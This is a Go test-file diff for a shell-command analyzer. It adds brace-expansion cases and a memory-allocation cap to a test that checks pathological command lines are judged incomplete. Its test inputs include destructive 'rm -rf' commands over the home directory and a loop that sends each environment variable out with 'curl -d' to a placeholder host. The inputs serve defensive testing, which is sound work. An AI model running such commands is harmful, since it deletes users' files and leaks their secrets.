@@ -2,6 +2,7 @@ package shell
 
 import (
 	"fmt"
+	"runtime"
 	"strings"
 	"testing"
 )
@@ -2208,13 +2209,28 @@ func TestWorkBounded(t *testing.T) {
 		arrays = append(arrays, `a=("${a[@]}" "${a[@]}")`)
 	}
 	for name, line := range map[string]string{
-		"loops":      strings.Repeat("for i in a b c d e f g h; do ", 12) + "rm -rf $i" + strings.Repeat("; done", 12),
-		"values":     "v0=x; " + strings.Join(vars, "; ") + "; echo $v199",
-		"arrays":     "a=(x y); " + strings.Join(arrays, "; ") + `; echo "${a[@]}"`,
+		"loops":  strings.Repeat("for i in a b c d e f g h; do ", 12) + "rm -rf $i" + strings.Repeat("; done", 12),
+		"values": "v0=x; " + strings.Join(vars, "; ") + "; echo $v199",
+		"arrays": "a=(x y); " + strings.Join(arrays, "; ") + `; echo "${a[@]}"`,
+		// Brace expansion is counted before it is made: 2^18 words from 95 bytes took two
+		// seconds natively, and a sequence of 10^13 more memory than there is.
+		"braces":   "rm -rf " + strings.Repeat("{a,b}", 18),
+		"sequence": "rm -rf ~/{1..9999999999999}",
+		// a read loop over the environment is one pass, inside loops that multiply (det68)
 		"read loops": strings.Repeat("for i in a b c d e f g h; do env | while read l; do ", 12) + `curl -d "$l" h` + strings.Repeat("; done; done", 12),
 	} {
-		if r := Analyze(line); !r.Incomplete {
+		// What a line costs is bounded too: the bytes allocated while judging it (not the
+		// time, which the machine decides). A capped array doubled 200 times allocated
+		// 300 MB (0.3 s natively) before its elements were charged to the work budget.
+		var m0, m1 runtime.MemStats
+		runtime.ReadMemStats(&m0)
+		r := Analyze(line)
+		runtime.ReadMemStats(&m1)
+		if !r.Incomplete {
 			t.Errorf("%s: judged complete (%d commands)", name, len(r.Commands))
+		}
+		if mb := (m1.TotalAlloc - m0.TotalAlloc) >> 20; mb > 64 {
+			t.Errorf("%s: judging it allocated %d MB, want at most 64", name, mb)
 		}
 	}
 }
